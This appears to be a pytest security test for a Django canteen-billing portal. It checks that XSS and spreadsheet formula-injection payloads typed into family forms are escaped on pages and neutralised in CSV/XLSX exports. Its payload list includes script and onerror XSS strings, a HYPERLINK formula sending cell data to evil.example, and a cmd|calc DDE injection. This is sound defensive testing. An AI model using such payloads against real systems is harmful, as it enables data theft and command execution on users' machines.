"""Formula and HTML payloads typed by a family, through every free-text field of its forms, come back escaped on
every page that shows them (the family's and the agents', every admin list and change page of its objects) and
neutralised in the billing exports (CSV and XLSX)."""

import csv
import io

import pytest
from django import forms
from django.contrib import admin
from django.test import Client
from django.urls import NoReverseMatch, reverse
from django.utils.html import escape
from openpyxl import load_workbook

from cantine import services as cantine_services
from cantine.exports import FORMULA_STARTS
from cantine.models import Job
from cantine.services import jobs
from portal.forms import AdultForm, ChildForm
from tests.security.urls import owned_objects

PAYLOADS = [
    '<script>alert("xss")</script>',
    '"><img src=x onerror=alert(1)>',
    '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
]


def free_text_fields(form_class):
    """The fields a family types freely: text inputs without choices (dates, emails, choices are validated)."""
    return [
        name
        for name, field in form_class.base_fields.items()
        if type(field) is forms.CharField and not getattr(field, "choices", None)
    ]


def test_the_forms_have_free_text_fields():
    assert {"first_names", "last_name"} <= set(free_text_fields(ChildForm))
    assert {"first_names", "last_name", "phone"} <= set(free_text_fields(AdultForm))


def typed(client, url, form_class, instance_values, payload):
    data = {**instance_values}
    for name in free_text_fields(form_class):
        max_length = form_class.base_fields[name].max_length or 10**6
        data[name] = payload[:max_length]
    response = client.post(url, data)
    assert response.status_code == 302, response.content.decode()[:2000]


def html_pages(client, urls):
    for url in urls:
        response = client.get(url)
        if response.status_code == 200 and response["Content-Type"].startswith("text/html"):
            yield url, response.content.decode()


def admin_urls(owned):
    urls = []
    for model in admin.site._registry:
        prefix = f"admin:{model._meta.app_label}_{model._meta.model_name}"
        try:
            urls.append(reverse(f"{prefix}_changelist"))
        except NoReverseMatch:
            continue
        urls += [reverse(f"{prefix}_change", args=[pk]) for pk in sorted(owned.get(model, ()))[:3]]
    return urls


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payloads_are_escaped_on_every_page_and_neutralised_in_exports(victims, agent, payload):
    victim = victims[0]
    household = victim.household
    child = household.children.get()
    family = Client()
    family.force_login(household.owner)
    typed(
        family,
        reverse("portal:child_edit", args=[child.pk]),
        ChildForm,
        {"birth_date": child.birth_date.isoformat(), "diet": child.diet, "class_level": "", "school": ""},
        payload,
    )
    holder = household.adults.get(role="holder")
    typed(
        family,
        reverse("portal:adult_edit", args=["holder"]),
        AdultForm,
        {"birth_date": "1988-04-12", "email": "", "phone": ""},
        payload,
    )
    holder.refresh_from_db()
    assert holder.first_names == payload[:150]
    dossier = household.children.get().dossiers.exclude(status="draft").get()
    dossier = cantine_services.dossier_submit(dossier=dossier, user=household.owner)  # the documents asked for
    dossier = cantine_services.dossier_start_review(dossier=dossier, agent=agent)
    dossier = cantine_services.dossier_accept(dossier=dossier, agent=agent)

    family_urls = [
        reverse("portal:dashboard"),
        reverse("portal:my_data"),
        reverse("portal:child_edit", args=[child.pk]),
        reverse("portal:adult_edit", args=["holder"]),
        reverse("cantine:dossier_detail", args=[dossier.pk]),
    ]
    staff = Client()
    staff.force_login(agent)
    shown = 0
    for client, urls in ((family, family_urls), (staff, admin_urls(owned_objects(household.owner, household)))):
        for url, html in html_pages(client, urls):
            if "<" in payload:
                assert payload not in html, url
            assert '<script>alert("xss")' not in html and "<img src=x" not in html, url
            shown += escape(payload) in html
    assert shown >= 5  # the payload did reach the pages, escaped

    export_url = reverse("admin:cantine_dossier_export")
    for file_format in ("csv", "xlsx"):
        response = staff.post(export_url, {"period": dossier.period.pk, "file_format": file_format})
        assert response.status_code == 302  # the export is a job for the task worker (cantine.services.jobs)
        job = Job.objects.latest("pk")
        jobs.job_execute(job=job)
        download = staff.get(reverse("admin:cantine_job_download", args=[job.pk]))
        assert download.status_code == 200
        content = b"".join(download.streaming_content)
        if file_format == "csv":
            rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))[1:]
            cells = [value for row in rows for value in row]
            assert any(value.lstrip("'") == payload for value in cells)
            assert not any(value.startswith(FORMULA_STARTS) for value in cells)
        else:
            sheet = load_workbook(io.BytesIO(content)).active
            cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
            assert any(cell.value == payload for cell in cells)
            assert not any(cell.data_type == "f" for cell in cells)
